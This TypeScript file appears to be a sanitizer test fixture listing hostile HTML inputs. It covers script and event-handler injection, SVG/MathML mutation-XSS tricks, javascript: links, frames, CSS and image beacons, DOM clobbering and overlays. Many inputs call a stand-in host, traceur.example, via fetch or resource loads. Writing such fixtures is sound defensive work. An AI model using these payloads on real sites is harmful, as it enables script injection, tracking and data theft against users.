/** HTML that means harm: each tries to run, to load, to send, to cover or to lead elsewhere. Addresses of no one (RFC 2606). */
const out = 'http://traceur.example';
const run = "window.top.taken='oui';fetch('http://traceur.example/run')";
const runs = run.replaceAll("'", '&#39;');

export const hostile: Readonly<Record<string, string>> = {
  script: `<p>vu</p><script>${run}</script><script src="${out}/a.js"></script>`,
  'event attributes': `<p onmouseover="${runs}">vu</p><img src=x onerror="${runs}"><body onload="${runs}"><details open ontoggle="${runs}">`,
  svg: `<p>vu</p><svg onload="${runs}"><script>${run}</script><use href="${out}/s.svg#a"/><image href="${out}/i.png"/></svg>`,
  'svg in disguise': `<p>vu</p><svg></p><style><a id="</style><img src=1 onerror=${runs}>">`,
  mathml: `<p>vu</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${runs}&gt;"></table></mtext></math>`,
  'nested forms': `<p>vu</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=${runs}></style></mglyph></form></mtext></math>`,
  noscript: `<p>vu</p><noscript><p title="</noscript><img src=x onerror=${runs}>"></noscript>`,
  template: `<p>vu</p><template><img src=x onerror="${runs}"></template><div><template shadowrootmode=open><img src="${out}/shadow.png"></template></div>`,
  comment: `<p>vu</p><!--><img src=x onerror=${runs}>--><![CDATA[<img src=x onerror=${runs}>]]>`,
  'links that run': `<p>vu</p><a href="javascript:${runs}">un</a><a href=" &#1;java&#10;script:${runs}">deux</a><a href="data:text/html,<script>${runs}</script>">trois</a><a href="vbscript:x">quatre</a>`,
  'links that lead': `<p>vu</p><a href="${out}/clic" target="_top" ping="${out}/ping">Cliquez</a><map name=m><area href="${out}/area" coords="0,0,9,9"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  forms: `<p>vu</p><form action="${out}/envoi" method=post><input name=code value=1><input type=image src="${out}/bouton.png"><button formaction="${out}/b">OK</button></form><isindex action="${out}">`,
  frames: `<p>vu</p><iframe src="${out}/cadre"></iframe><iframe srcdoc="<script>${runs}</script>"></iframe><frameset><frame src="${out}/f"></frameset><object data="${out}/o"></object><embed src="${out}/e"><portal src="${out}/p"></portal>`,
  'what loads by itself': `<p>vu</p><img src="${out}/1.png"><img srcset="${out}/2.png 2x"><picture><source srcset="${out}/3.png"><img></picture><video poster="${out}/4.png" src="${out}/4.mp4" autoplay></video><audio src="${out}/5.mp3" autoplay></audio><input type=image src="${out}/6.png"><table background="${out}/7.png"><tr><td background="${out}/8.png">a</td></tr></table><body background="${out}/9.png"><bgsound src="${out}/10.wav"><track src="${out}/11.vtt">`,
  'head of a page': `<p>vu</p><base href="${out}/"><link rel=stylesheet href="${out}/s.css"><link rel=prefetch href="${out}/p"><link rel=dns-prefetch href="//traceur.example"><link rel=preconnect href="${out}"><meta http-equiv=refresh content="0;url=${out}/ailleurs"><meta http-equiv=Set-Cookie content="a=b"><img src="relatif.png">`,
  'style sheets': `<p class=a>vu</p><style>@import "${out}/i.css"; @font-face{font-family:f;src:url(${out}/f.woff2)} .a{background:url(${out}/1.png);font-family:f;cursor:url(${out}/c.cur),auto} @media all{.a{background-image:url(${out}/m.png)}} .a::after{content:url(${out}/2.png)} p{background:image-set("${out}/3.png" 1x)} p{position:fixed;inset:0;z-index:9} @keyframes k{to{background:url(${out}/4.png)}} .a{animation:k 1s} input[value^=a]{background:url(${out}/a)}</style>`,
  'styles of elements': `<p style="background:url(${out}/1.png)">vu</p><p style="background:u\\72l(${out}/2.png)">a</p><p style="list-style:url('${out}/3.png')">b</p><div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">cache</div><p style="width:expression(${runs});behavior:url(${out}/x.htc);-moz-binding:url(${out}/x.xml)">c</p><p style="--a:url(${out}/4.png);background:var(--a)">d</p><p style="border-image:url(${out}/5.png);mask:url(${out}/6.svg);filter:url(${out}/7.svg)">e</p>`,
  'names that take over': `<p>vu</p><img name=body><img name=getElementById><form id=documentElement><input name=attributes><input name=parentNode></form><a id=defaultView href="${out}">x</a><p id=liaison data-style=0 data-cid=x>y</p>`,
  'a body that never ends': `<p>vu</p>${'<div>'.repeat(2000)}profond${'<b>'.repeat(2000)}`,
  'bytes that are no letters': `<p>vu</p>\u0000<scr\u0000ipt>${run}</script><IMG SRC=x ONERROR="${runs}"><<script>${run}//<</script>`,
};
